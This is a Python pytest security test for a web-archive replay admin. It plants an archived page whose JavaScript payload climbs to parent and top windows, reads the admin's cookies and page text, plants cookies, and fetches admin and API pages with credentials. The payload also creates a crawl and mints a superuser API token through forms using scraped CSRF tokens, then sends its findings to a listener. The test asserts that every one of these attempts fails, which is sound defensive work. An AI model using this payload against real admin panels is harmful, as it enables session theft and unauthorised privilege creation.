"""An archived page, replayed by a logged-in admin in a real Chromium, attacks the admin
and reaches nothing of it (issue 21).

The page (in a WACZ built here, as a crawl of a site on 127.0.0.1 would hold it) runs the
same probe from an inline script, a `data:` script and a `blob:` script. The probe climbs to
every window it can name (itself, `parent`, `parent.parent`, `top`, `Function('return top')()`
which escapes the replay's rewriting, `opener`), and from each one reads the
location, the document's cookies and text, plants a cookie, fetches the admin's and the
API's pages with credentials, queues a crawl through the API and mints a superuser's API
token through the admin's form. It writes what it got into its page and sends it, through
every window that lets it, to a listener on 127.0.0.1.

Then: the page ran (its report is in the replay frame, and the listener heard it); neither
the report nor anything the listener received holds the admin's cookies or any admin or API
content; the admin's cookies are only its own; no crawl, token or user was added; and the
admin's page was not navigated away.
"""

from __future__ import annotations

import http.server
import json
import threading
from urllib.parse import quote

import pytest

from tests.admin.browsing import archived_crawl, log_in, wait_for_replayed_text, wait_until

pytestmark = pytest.mark.slow

ATTACK_URL = "http://127.0.0.1:9/attack.html"

# One probe, run by each script. ADMIN and LISTEN are filled in by the test.
PROBE = r"""
const ADMIN = "%(admin)s", LISTEN = "%(listen)s";
async function probe(label, reach) {
  const out = {};
  let targets = {};
  try { targets = reach(); } catch (e) { out[label + ":reach"] = "threw " + e.name; }
  for (const [name, w] of Object.entries(targets)) {
    const key = label + ":" + name;
    if (!w) { out[key] = "none"; continue; }
    try { out[key] = String(w.location.href); } catch (e) { out[key] = "cross-origin"; }
    let doc = null;
    try { doc = w.document; out[key + ".cookie"] = String(doc.cookie); } catch (e) { doc = null; }
    if (doc) {
      try { doc.cookie = "planted_" + label + "=1; path=/"; } catch (e) {}
      try { out[key + ".text"] = doc.body ? doc.body.innerText.slice(0, 400) : ""; } catch (e) {}
    }
    let get = null;
    try { get = w.fetch.bind(w); } catch (e) { out[key + ".fetch"] = "none"; }
    if (!get) continue;
    for (const path of ["/api/v1/crawls", "/admin/auth/user/", "/admin/", "/admin/crawls/apitoken/add/"]) {
      try {
        const r = await get(ADMIN + path, {credentials: "include"});
        out[key + " GET " + path] = r.status + " " + (await r.text()).slice(0, 3000);
      } catch (e) { out[key + " GET " + path] = "refused " + e.name; }
    }
    const cookie = (out[key + ".cookie"] || "").match(/csrftoken=([^;]+)/);
    const csrf = cookie ? cookie[1] : "";
    try {
      const r = await get(ADMIN + "/api/v1/crawls", {method: "POST", credentials: "include",
        headers: {"Content-Type": "application/json", "X-CSRFToken": csrf},
        body: JSON.stringify({seeds: ["https://attacker.example/"]})});
      out[key + " POST /api/v1/crawls"] = r.status + " " + (await r.text()).slice(0, 300);
    } catch (e) { out[key + " POST /api/v1/crawls"] = "refused " + e.name; }
    const form = (out[key + " GET /admin/crawls/apitoken/add/"] || "").match(/name="csrfmiddlewaretoken" value="([^"]+)"/);
    try {
      const body = new URLSearchParams({csrfmiddlewaretoken: form ? form[1] : csrf, user: "1",
                                        name: "pwned", rate_limit: "600"});
      const r = await get(ADMIN + "/admin/crawls/apitoken/add/", {method: "POST", credentials: "include", body});
      out[key + " POST token"] = r.status + " " + (await r.text()).slice(0, 300);
    } catch (e) { out[key + " POST token"] = "refused " + e.name; }
    try { get(LISTEN + "/ran/" + encodeURIComponent(key), {mode: "no-cors"}); } catch (e) {}
  }
  return out;
}
function report(label, out, windows) {
  for (const w of windows) {
    try { w.fetch(LISTEN + "/report/" + label, {method: "POST", mode: "no-cors", body: JSON.stringify(out)}); }
    catch (e) {}
    try { w.navigator.sendBeacon(LISTEN + "/beacon/" + label, JSON.stringify(out)); } catch (e) {}
  }
}
"""

# Run as a data: and as a blob: script: plain `top` and `parent`, unrewritten (in a scope of
# its own: the page's script declared the same names).
ELEMENT_SCRIPT = "(() => {" + PROBE + r"""
probe("%(label)s", () => ({top: top, parent: parent, parent2: parent.parent}))
  .then((out) => {
    report("%(label)s", out, [window, parent, parent.parent, top]);
    document.getElementById("out-%(label)s").textContent = JSON.stringify(out);
  });
})();
"""

PAGE = r"""<!doctype html>
<html><head><title>Attack</title></head>
<body>
<h1 id="state">attacking</h1>
<pre id="out-inline"></pre><pre id="out-data"></pre><pre id="out-blob"></pre><pre id="out-errors"></pre>
<script>
window.addEventListener("error", (e) => { document.getElementById("out-errors").textContent += e.message + "\n"; });
%(probe)s
(async () => {
  const climb = () => ({self: window, parent: window.parent, top: window.top,
    fn_top: Function("return top")(), fn_parent2: Function("return parent.parent")(),
    fn_frame: Function("return window.frameElement && window.frameElement.ownerDocument.defaultView")(),
    opener: window.opener});
  const inline = await probe("inline", climb);
  const windows = Object.values(climb()).filter(Boolean);
  report("inline", inline, windows);
  document.getElementById("out-inline").textContent = JSON.stringify(inline);
  const data = document.createElement("script");
  data.onerror = () => { document.getElementById("out-errors").textContent += "data: script not loaded\n"; };
  data.src = "data:text/javascript;base64,%(data)s";
  document.head.appendChild(data);
  const blob = document.createElement("script");
  blob.onerror = () => { document.getElementById("out-errors").textContent += "blob: script not loaded\n"; };
  blob.src = URL.createObjectURL(new Blob([atob("%(blob)s")], {type: "text/javascript"}));
  document.head.appendChild(blob);
  const deadline = Date.now() + 45000;
  while (Date.now() < deadline && !(document.getElementById("out-data").textContent
                                     && document.getElementById("out-blob").textContent)) {
    await new Promise((done) => setTimeout(done, 200));
  }
  document.getElementById("state").textContent = "ATTACKS DONE";
})();
</script>
</body></html>
"""

# The replayed page's text, from inside the replay frame (see FIND_TEXT_JS).
PAGE_TEXT_JS = """
function search(root, depth) {
  if (!root || depth > 10) return null;
  for (const el of root.querySelectorAll("*")) {
    if (el.shadowRoot) { const found = search(el.shadowRoot, depth + 1); if (found) return found; }
    if (el.tagName !== "IFRAME") continue;
    let doc = null;
    try { doc = el.contentDocument; } catch (e) { doc = null; }
    if (!doc) continue;
    if (/mp_\\//.test(doc.location.href) && doc.getElementById("state")) {
      return ["inline", "data", "blob", "errors"].map((l) => doc.getElementById("out-" + l).textContent);
    }
    const found = search(doc, depth + 1);
    if (found) return found;
  }
  return null;
}
return search(document, 0);
"""

# Words only the admin's pages, the API's answers or the admin's cookies hold (not quoted:
# the replay's "not found" answers echo what was asked, quotes escaped).
ADMIN_MARKERS = ("Site administration", "Crawls, orgs and webhooks", "Control room", "Running now", "Select user to change",
                 "Add an API token", "copy it now", "pages_done", "csrftoken", "sessionid")


class Listener(http.server.ThreadingHTTPServer):
    """Records every request's path and body (what the attacker got out)."""

    def __init__(self):
        self.heard: list[tuple[str, str]] = []
        super().__init__(("127.0.0.1", 0), Handler)

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.server_address[1]}"


class Handler(http.server.BaseHTTPRequestHandler):
    def do_GET(self):  # noqa: N802 - http.server's name
        self.record()

    def do_POST(self):  # noqa: N802
        self.record()

    def record(self):
        length = min(int(self.headers.get("Content-Length") or 0), 1 << 20)
        body = self.rfile.read(length).decode(errors="replace")
        self.server.heard.append((self.path, body))
        self.send_response(204)
        self.send_header("Access-Control-Allow-Origin", "*")
        self.end_headers()

    def log_message(self, *args):
        pass


@pytest.fixture
def listener():
    server = Listener()
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield server
    finally:
        server.shutdown()
        server.server_close()


def attack_page(admin_url: str, listen: str) -> str:
    import base64

    probe = PROBE % {"admin": admin_url, "listen": listen}
    scripts = {label: base64.b64encode((ELEMENT_SCRIPT % {"admin": admin_url, "listen": listen,
                                                          "label": label}).encode()).decode()
               for label in ("data", "blob")}
    return PAGE % {"probe": probe, "data": scripts["data"], "blob": scripts["blob"]}


def replayed_reports(driver) -> list[str] | None:
    from selenium.webdriver.common.by import By

    frames = driver.find_elements(By.CSS_SELECTOR, "iframe#replay")
    if frames:  # (before issue 21 the player was in the admin's page itself)
        driver.switch_to.frame(frames[0])
    try:
        return driver.execute_script(PAGE_TEXT_JS)
    finally:
        driver.switch_to.default_content()


def counts(installation) -> dict:
    return {table: installation.query(f"SELECT COUNT(*) FROM {table}")[0][0]  # noqa: S608 - fixed names
            for table in ("crawls_crawl", "crawls_apitoken", "auth_user")}


def test_an_archived_page_replayed_by_the_admin_reaches_nothing_of_the_admin(
    installation, admin_url, browser, shots, listener
):
    driver = browser
    crawl_id = archived_crawl(installation, [(ATTACK_URL, "Attack", attack_page(admin_url, listener.url))])
    log_in(driver, admin_url, installation)
    admin_cookies = {c["name"]: c["value"] for c in driver.get_cookies()}
    assert set(admin_cookies) == {"csrftoken", "sessionid"}
    before = counts(installation)

    replay_page = f"{admin_url}/admin/crawls/crawl/{crawl_id}/replay/?url={quote(ATTACK_URL)}"
    driver.get(replay_page)
    wait_for_replayed_text(driver, shots, "ATTACKS DONE", "attacked")
    *reports, errors = replayed_reports(driver)
    assert all(reports), f"a script of the page did not report: {reports}, errors: {errors}"
    results = {label: json.loads(text) for label, text in zip(("inline", "data", "blob"), reports, strict=True)}
    # The page ran each attack: it climbed, fetched and wrote from every window it named.
    assert {"inline:fn_top", "inline:parent", "data:top", "blob:top"} <= {*results["inline"], *results["data"],
                                                                       *results["blob"]}
    wait_until(lambda: any(path.startswith("/report/") for path, _ in listener.heard), 20,
               "the page's report to reach the listener")

    got_out = [json.dumps(results)] + [f"{path} {body}" for path, body in listener.heard]
    leaked = [(marker, text[:300]) for text in got_out for marker in ADMIN_MARKERS if marker in text]
    leaked += [("a cookie value", text[:300]) for text in got_out for value in admin_cookies.values()
               if value in text]
    assert not leaked, f"the archived page got the admin's data out: {leaked}"
    driver.switch_to.window(driver.window_handles[0])
    assert driver.current_url == replay_page, "the archived page navigated the admin's page"
    assert {c["name"] for c in driver.get_cookies()} == {"csrftoken", "sessionid"}, "a cookie was planted"
    assert counts(installation) == before, "the archived page created a crawl, token or user"
